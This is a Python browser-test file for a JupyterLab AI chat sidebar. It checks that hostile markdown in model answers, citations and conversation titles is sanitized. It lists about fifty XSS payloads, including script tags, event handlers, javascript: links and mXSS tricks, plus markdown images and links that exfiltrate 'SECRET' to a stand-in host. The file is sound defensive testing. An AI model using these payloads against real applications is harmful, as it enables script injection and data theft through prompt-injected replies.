"""Rendering hostile payloads in the sidebar: no script runs and no request leaves the origin.

Payloads arrive where an attacker can put them: in the model's answer (a prompt-injected
reply), in citations (a notebook named with HTML, a heading holding a payload, indexed from
the project) and in conversation titles (renamed through REST). Every payload that could run
sets `window.__rd` (and some call `alert`), so a run shows as a set flag or a dialog; every
payload that could fetch points at 203.0.113.5 (TEST-NET-3, never reachable), and the
browser's request log must hold only the lab's own origin.
"""

from __future__ import annotations

import base64
import json
import time
import urllib.parse
from collections.abc import Iterator
from typing import Any

import nbformat
import pytest

pytestmark = pytest.mark.browser

EVIL = "http://203.0.113.5"
RUN = "window.__rd"
# An SVG image whose onload and <script> would set the flag, were it ever a document.
_SVG_SCRIPT = base64.b64encode(
    b'<svg xmlns="http://www.w3.org/2000/svg" onload="parent.__rd=1">'
    b"<script>parent.__rd=2</script></svg>"
).decode()

# name -> markdown the model answers with. Each is rendered in its own answer, so one that
# breaks the parser (an unclosed <math>) cannot hide the others.
PAYLOADS: dict[str, str] = {
    "script": f"<script>{RUN}='script';alert('script')</script>",
    "script-md-inline": f"Text <script>{RUN}='inline'</script> after.",
    "img-onerror": f"<img src=x onerror=\"{RUN}='img';alert('img')\">",
    "img-onerror-data": f"<img src='data:image/png;base64,AAAA' onerror=\"{RUN}='imgdata'\">",
    "js-link-md": f"[click me](javascript:{RUN}='jslink')",
    "js-link-html": f"<a href=\"javascript:{RUN}='jslink2'\">js</a>",
    "js-link-entity": "<a href='&#106;avascript:window.__rd=&#39;ent&#39;'>entity</a>",
    "js-link-spaces": f"<a href=' javascript:{RUN}=1'>spaced</a>",
    "a-onclick": f"<a href='https://example.org/' onclick=\"{RUN}='click'\">ok link</a>",
    "a-ping": f"<a href='https://example.org/' ping='{EVIL}/ping'>ping</a>",
    "remote-img-md": f"![x]({EVIL}/leak?d=SECRET)",
    "remote-img-ref": f"![y][r]\n\n[r]: {EVIL}/ref-img",
    "remote-img-html": f"<img src='{EVIL}/leak2.png' alt='remote'>",
    "img-srcset": f"<img src='data:image/png;base64,AAAA' srcset='{EVIL}/srcset 2x'>",
    "css-style-attr": f'<div style="background:url({EVIL}/css-attr)">styled</div>',
    "css-style-tag": f"<style>body{{background:url({EVIL}/style-tag)}}</style>",
    "css-import": f"<style>@import '{EVIL}/import.css';</style>",
    "css-font-face": f"<style>@font-face{{font-family:x;src:url({EVIL}/font)}}</style>",
    "svg-script": f"<svg><script>{RUN}='svg'</script></svg>",
    "svg-onload": f"<svg onload=\"{RUN}='svgonload'\"><circle r=5 /></svg>",
    "svg-image": f"<svg><image href='{EVIL}/svg-image' /></svg>",
    "svg-animate": f"<svg><a><animate attributeName=href values=javascript:{RUN}=1 /></a></svg>",
    "iframe": f"<iframe src='{EVIL}/frame'></iframe>",
    "iframe-srcdoc": "<iframe srcdoc=\"<script>parent.__rd='srcdoc'</script>\"></iframe>",
    "iframe-js": "<iframe src=\"javascript:parent.__rd='iframejs'\"></iframe>",
    "object": f"<object data='{EVIL}/obj'></object>",
    "embed": f"<embed src='{EVIL}/embed'>",
    "video-poster": f"<video poster='{EVIL}/poster'><source src='{EVIL}/v.mp4'></video>",
    "audio": f"<audio src='{EVIL}/a.mp3' autoplay></audio>",
    "link-prefetch": f"<link rel=prefetch href='{EVIL}/prefetch'>",
    "link-stylesheet": f"<link rel=stylesheet href='{EVIL}/sheet.css'>",
    "meta-refresh": f"<meta http-equiv=refresh content='0;url={EVIL}/refresh'>",
    "base-href": f"<base href='{EVIL}/'>[rel](page)",
    "form": f"<form action='{EVIL}/form'><button>Claim</button><input name=q></form>",
    "details-ontoggle": f"<details open ontoggle=\"{RUN}='toggle'\"><summary>s</summary></details>",
    "input-autofocus": f"<input autofocus onfocus=\"{RUN}='focus'\">",
    "marquee": f"<marquee onstart=\"{RUN}='marquee'\">m</marquee>",
    "body-onload": f"<body onload=\"{RUN}='body'\">b</body>",
    "commandlinker": "<button data-commandlinker-command='help:open'>help</button>"
    "<span data-commandlinker-command='help:open'>help span</span>",
    "md-link-exfil": f"[the docs]({EVIL}/leak?d=SECRET)",
    "md-autolink": f"<{EVIL}/autolink?d=SECRET>",
    "data-html-link": "[d](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "data-svg-img": f"![svg](data:image/svg+xml;base64,{_SVG_SCRIPT})",
    "data-svg-html": f"<img src='data:image/svg+xml;base64,{_SVG_SCRIPT}'>",
    "mxss-noscript": f"<noscript><p title=\"</noscript><img src=x onerror={RUN}='mxss'>\">",
    "mxss-xmp": f"<xmp><img src=x onerror=\"{RUN}='xmp'\"></xmp>",
    "mxss-math": f"<math><mtext><table><mglyph><style><img src=x onerror={RUN}='math'>",
    "mxss-svg-style": f"<svg></p><style><a id=\"</style><img src=x onerror={RUN}='svgst'>\">",
    "template": f"<template><img src=x onerror=\"{RUN}='tpl'\"></template>",
    "code-fence": f"```html\n<script>{RUN}='fence'</script>\n<img src=x onerror=alert(1)>\n```",
    "code-class": f'<code class="language-py x" onmouseover="{RUN}=\'code\'">c</code>',
}

# Payload-bearing names and headings the index turns into citations (path and title).
HEADING = f"Churn <img src=x onerror=\"{RUN}='heading'\"> <script>{RUN}='h2'</script>"
MD_NAME = "<img src=x onerror=alert(1)> churn notes.md"
NB_NAME = "<svg onload=alert(2)> churn.ipynb"
TITLE = (
    f"<img src=x onerror=\"{RUN}='title'\"><script>{RUN}='t2'</script>"
    f"<a href='javascript:{RUN}=3'>x</a> ![t]({EVIL}/title-img)"
)
READABLE = (
    "Here is what the review found [1]:\n\n"
    "1. **Drop missing rows** before fitting:\n\n"
    "```python\ndf = df.dropna(subset=['churned'])\nmodel.fit(df[features], df['churned'])\n```\n\n"
    "2. A table of the findings:\n\n| line | problem |\n|---|---|\n| 12 | `fit` on NaNs |\n\n"
    f"> Payloads below are shown as text or removed: <img src=x onerror=\"{RUN}='shot'\"> "
    f"![leak]({EVIL}/shot.png) [a link]({EVIL}/docs) `inline <b>code</b>`\n"
)


@pytest.fixture(scope="module")
def lab_server(fake_llm_server: Any, start_lab: Any) -> Any:
    return start_lab(
        {
            "RUBBERDUCK_MODEL": "openai/fake-model",
            "RUBBERDUCK_API_BASE": fake_llm_server.base_url,
            "RUBBERDUCK_API_KEY": "sk-browser-test",
        },
        # The theme switch for the dark screenshot goes through the app's own command.
        ["--LabApp.expose_app_in_browser=True", "--RubberDuckApp.ollama_url=http://127.0.0.1:9"],
    )


class Watch:
    """What the page did: every request and socket URL, every dialog, every page error."""

    def __init__(self, page: Any, origin: str) -> None:
        self.origin = origin.rstrip("/")
        self.requests: list[str] = []
        self.sockets: list[str] = []
        self.dialogs: list[str] = []
        self.errors: list[str] = []
        page.on("request", lambda r: self.requests.append(r.url))
        page.on("websocket", lambda ws: self.sockets.append(ws.url))
        page.on("pageerror", lambda e: self.errors.append(str(e)))
        page.on("dialog", self._dialog)

    def _dialog(self, dialog: Any) -> None:
        self.dialogs.append(dialog.message)
        dialog.dismiss()

    def foreign(self) -> list[str]:
        """Requests that left the lab's origin (data: and blob: never touch the network)."""
        ws_origin = "ws" + self.origin[len("http") :]
        out = [u for u in self.requests if not _same_origin(u, self.origin)]
        return out + [u for u in self.sockets if not _same_origin(u, ws_origin)]


def _same_origin(url: str, origin: str) -> bool:
    if url.startswith(("data:", "blob:")):
        return True
    parts = urllib.parse.urlsplit(url)
    return f"{parts.scheme}://{parts.netloc}" == origin


@pytest.fixture
def watch(page: Any, lab_server: Any) -> Iterator[Watch]:
    # The page fixture already loaded the lab; reload so its start-up is in the log too.
    found = Watch(page, lab_server.url)
    page.reload()
    page.wait_for_selector("#jp-main-dock-panel", state="attached")
    yield found


def _ask(panel: Any, question: str) -> Any:
    """Send a question; return its answer once it is done (its usage line is drawn)."""
    before = panel.locator(".jp-RubberDuck-usage").count()
    box = panel.locator("textarea.jp-RubberDuck-input")
    box.fill(question)
    box.press("Enter")
    panel.locator(".jp-RubberDuck-usage").nth(before).wait_for()
    return panel.locator('.jp-RubberDuck-message[data-role="assistant"]').last


# What must never be in the rendered DOM of an answer, whatever the payload. The sidebar's
# own controls (buttons with a jp-RubberDuck- class and their icons) may be buttons or svg;
# the sanitizer strips `class` from model HTML (but a code block's language), so a payload
# cannot pass as one.
_DOM_CHECK = """root => {
  const bad = [];
  for (const el of root.querySelectorAll('*')) {
    const tag = el.localName;
    const mine = e => !!e && Array.from(e.classList).some(c => c.startsWith('jp-RubberDuck-'));
    // An icon (svg) inside one of the sidebar's own buttons is the sidebar's too.
    const own = mine(el) || mine(el.closest('button'));
    if (!own && ['script','iframe','svg','style','object','embed','link','meta','base','form',
         'input','button','video','audio','source','math','template','noscript','frame',
         'xmp','marquee'].includes(tag)) bad.push('tag ' + tag);
    for (const a of Array.from(el.attributes)) {
      const n = a.name.toLowerCase(), v = a.value.trim().toLowerCase();
      if (n.startsWith('on')) bad.push(tag + ' ' + n);
      if (n === 'style' || n === 'srcset' || n === 'srcdoc' || n === 'ping' || n === 'poster')
        bad.push(tag + ' ' + n);
      if (n.startsWith('data-commandlinker')) bad.push(tag + ' ' + n);
      if ((n === 'href' || n === 'src' || n === 'action') && v.startsWith('javascript:'))
        bad.push(tag + ' js ' + n);
    }
    if (tag === 'img' && !el.getAttribute('src').startsWith('data:image/')) bad.push('remote img');
    if (tag === 'a' && el.classList.contains('jp-RubberDuck-cite')) continue;
    if (tag === 'a') {
      const href = el.getAttribute('href') || '';
      if (!/^(https?:|mailto:)/i.test(href)) bad.push('link ' + href);
      if (el.getAttribute('target') !== '_blank') bad.push('link without target');
      if (!/noopener/.test(el.rel) || !/noreferrer/.test(el.rel)) bad.push('link rel ' + el.rel);
    }
  }
  return bad;
}"""


def _settle(page: Any) -> None:
    """Give error handlers, lazy loads and CSS fetches time to fire before checking."""
    page.wait_for_timeout(300)


def test_render_payloads_run_nothing_and_fetch_nothing(
    page: Any,
    open_sidebar: Any,
    fake_llm: Any,
    lab_server: Any,
    watch: Watch,
    screenshot: Any,
    cases: Any,
) -> None:
    started = time.monotonic()
    root = lab_server.root
    (root / MD_NAME).write_text(f"# {HEADING}\n\nThe churn model uses gradient boosting.\n")
    nb = nbformat.v4.new_notebook()
    nb.cells = [
        nbformat.v4.new_markdown_cell(f"# {HEADING}"),
        nbformat.v4.new_code_cell("churn_rate = churned.mean()  # churn gradient boosting"),
    ]
    nbformat.write(nb, str(root / NB_NAME))
    lab_server.api("POST", "index", {"paths": []})
    deadline = time.monotonic() + 120
    while lab_server.api("GET", "index")["state"] == "indexing":
        assert time.monotonic() < deadline, "indexing did not finish"
        time.sleep(0.2)
    hits = lab_server.api("GET", "index/search?q=churn+gradient+boosting&mode=bm25")["hits"]
    assert {MD_NAME, NB_NAME} <= {h["path"] for h in hits}, hits

    panel = open_sidebar("fake-model")
    # --- the model's answer: one payload per answer ---------------------------------------
    bad: dict[str, list[str]] = {}
    fake_llm.set_replies(
        [f"Payload {name}:\n\n{markdown}\n\nEnd of {name}." for name, markdown in PAYLOADS.items()]
    )
    for name in PAYLOADS:
        answer = _ask(panel, f"/ask show payload {name}")
        markdown = answer.locator(".jp-RubberDuck-markdown").first
        _settle(page)
        found = markdown.evaluate(_DOM_CHECK)
        # The text before the payload renders: the answer was not simply dropped. (The text
        # after it may be, inside an unclosed <style> that is removed whole.)
        if f"Payload {name}" not in markdown.inner_text():
            found.append("answer text missing")
        if found:
            bad[name] = found
    cases.add(len(PAYLOADS), len(PAYLOADS) - len(bad))

    # --- the user's own message, echoed back by the fake model (no reply is scripted) -----
    question = f"/ask why <img src=x onerror=\"{RUN}='user'\"> and ![q]({EVIL}/q.png)?"
    echoed = _ask(panel, question)
    _settle(page)
    mine = panel.locator('.jp-RubberDuck-message[data-role="user"]').last
    user_checks = {
        "user message shown as typed": mine.inner_text().strip() == question,
        "user message DOM clean": not mine.evaluate(_DOM_CHECK),
        "echo DOM clean": not echoed.locator(".jp-RubberDuck-markdown").first.evaluate(_DOM_CHECK),
    }
    cases.add(len(user_checks), sum(user_checks.values()))
    assert all(user_checks.values()), (user_checks, mine.inner_html())

    # --- citations: a payload-named notebook and file, payload headings as titles --------
    fake_llm.set_replies(["The churn model is described in [1] and [2]."])
    answer = _ask(panel, "/ask where is the churn gradient boosting model?")
    sources = answer.locator(".jp-RubberDuck-sources")
    sources.wait_for()
    shown = sources.inner_text()
    _settle(page)
    sources_bad = sources.evaluate(_DOM_CHECK)
    citation_checks = {
        "citation path shown as text": MD_NAME in shown and NB_NAME in shown,
        "citation title shown as text": HEADING in shown,
        "citation DOM clean": not sources_bad,
        "answer with [n] links clean": not answer.locator(".jp-RubberDuck-markdown").first.evaluate(
            _DOM_CHECK
        ),
    }
    cases.add(len(citation_checks), sum(citation_checks.values()))

    # --- conversation titles, renamed through REST ----------------------------------------
    listed = lab_server.api("GET", "conversations")["conversations"]
    assert listed, "the answers above should have made a conversation"
    conversation_id = listed[0]["id"]
    lab_server.api("PATCH", f"conversations/{conversation_id}", {"title": TITLE})
    toggle = panel.locator("button.jp-RubberDuck-conversations-toggle")
    if toggle.get_attribute("aria-expanded") == "true":
        toggle.click()  # close and reopen: the list is fetched when it opens
    toggle.click()
    listing = panel.locator(".jp-RubberDuck-conversations")
    listing.wait_for(state="visible")
    title = listing.locator(".jp-RubberDuck-conversation-title", has_text="onerror").first
    title.wait_for()
    _settle(page)
    listing_bad = listing.evaluate(_DOM_CHECK)
    title_checks = {
        "title shown as text": title.inner_text() == " ".join(TITLE.split()),
        "title DOM clean": not listing_bad,
    }
    cases.add(len(title_checks), sum(title_checks.values()))
    toggle.click()

    # --- the proof: nothing ran, nothing left the origin ---------------------------------
    flag = page.evaluate("() => window.__rd ?? null")
    foreign = watch.foreign()
    proofs = {
        "no script ran": flag is None,
        "no dialog opened": not watch.dialogs,
        "no request left the origin": not foreign,
        "requests were seen at all": any(u.startswith(lab_server.url) for u in watch.requests),
    }
    # The log would have seen one: an image the test itself adds, to a closed local port on
    # another origin, shows up as foreign (so an empty log above is not a deaf one).
    page.evaluate("() => { new Image().src = 'http://127.0.0.2:9/control.png'; }")
    page.wait_for_timeout(300)
    proofs["the request log sees a foreign request"] = watch.foreign() == [
        "http://127.0.0.2:9/control.png"
    ]
    cases.add(len(proofs), sum(proofs.values()))
    assert proofs["the request log sees a foreign request"], watch.foreign()
    assert not bad, json.dumps(bad, indent=1)
    assert all(citation_checks.values()), (citation_checks, sources_bad, shown)
    assert all(title_checks.values()), (title_checks, listing_bad, title.inner_text())
    assert flag is None, f"a payload ran: window.__rd = {flag!r}"
    assert not watch.dialogs, watch.dialogs
    assert not foreign, foreign
    assert proofs["requests were seen at all"]
    assert time.monotonic() - started < 240


def test_a_readable_answer_with_payloads_in_light_and_dark(
    page: Any, open_sidebar: Any, fake_llm: Any, watch: Watch, screenshot: Any, cases: Any
) -> None:
    fake_llm.set_replies([READABLE, READABLE])
    panel = open_sidebar("fake-model")
    answer = _ask(panel, "/ask review my churn model")
    _settle(page)
    markdown = answer.locator(".jp-RubberDuck-markdown").first
    assert "df.dropna(subset=['churned'])" in markdown.locator("pre code").inner_text()
    assert markdown.locator("table th, table td").count() == 4
    assert "inline <b>code</b>" in markdown.inner_text()  # code shows HTML as text
    # The refused remote image shows as a note naming its host, not as nothing at all.
    notes = markdown.locator("em.jp-RubberDuck-blocked-image")
    assert notes.all_inner_texts() == ["[image not loaded]", "[image not loaded: leak]"]
    assert "(this one: 203.0.113.5)" in (notes.nth(1).get_attribute("title") or "")
    screenshot("security-render-light")
    page.evaluate(
        "() => window.jupyterapp.commands.execute('apputils:change-theme',"
        " {theme: 'JupyterLab Dark'})"
    )
    page.wait_for_selector("body[data-jp-theme-light='false']", state="attached")
    _settle(page)
    screenshot("security-render-dark")
    checks = {
        "dark theme applied": page.evaluate("() => document.body.dataset.jpThemeLight") == "false",
        "answer DOM clean": not markdown.evaluate(_DOM_CHECK),
        "no script ran": page.evaluate("() => window.__rd ?? null") is None,
        "nothing left the origin": not watch.foreign() and not watch.dialogs,
    }
    cases.add(len(checks), sum(checks.values()))
    page.evaluate(
        "() => window.jupyterapp.commands.execute('apputils:change-theme',"
        " {theme: 'JupyterLab Light'})"
    )
    assert all(checks.values()), (checks, watch.foreign())
